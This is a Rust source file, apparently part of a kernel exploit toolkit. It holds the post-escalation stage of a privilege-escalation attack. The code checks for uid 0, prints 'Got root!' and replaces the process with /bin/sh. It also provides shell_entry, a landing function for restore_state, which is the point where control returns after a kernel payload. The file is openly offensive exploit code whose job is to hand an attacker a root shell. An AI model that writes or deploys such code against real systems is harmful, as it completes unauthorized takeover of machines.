//! Post-escalation shell handoff.

use core::convert::Infallible;
use kpwn_log::{die, err, info, ok};
use std::io;
use std::os::unix::process::CommandExt;
use std::process::Command;

pub const SHELL: &str = "/bin/sh";

#[derive(Debug, thiserror::Error)]
pub enum ShellError {
    #[error("execve({program}) failed: {source}")]
    Exec {
        program: &'static str,
        #[source]
        source: io::Error,
    },
}

#[must_use]
pub fn current_uid() -> u32 {
    unsafe { libc::getuid() }
}

/// Log the current uid and whether it looks escalated.
pub fn report_privilege() {
    let uid = current_uid();
    info!("uid = {uid}");
    if uid == 0 {
        ok!("Got root!");
    } else {
        err!("Not root... privesc may have failed");
    }
}

/// Report privileges, then replace the process with `/bin/sh`.
///
/// The shell starts with an empty environment. Only returns on failure.
///
/// # Errors
/// `execve` failed.
pub fn get_shell() -> Result<Infallible, ShellError> {
    report_privilege();

    let source = Command::new(SHELL).env_clear().exec();
    Err(ShellError::Exec {
        program: SHELL,
        source,
    })
}

/// Landing function for `restore_state` that goes straight to a shell.
pub extern "C" fn shell_entry() -> ! {
    match get_shell() {
        Ok(never) => match never {},
        Err(e) => die!("{e}"),
    }
}
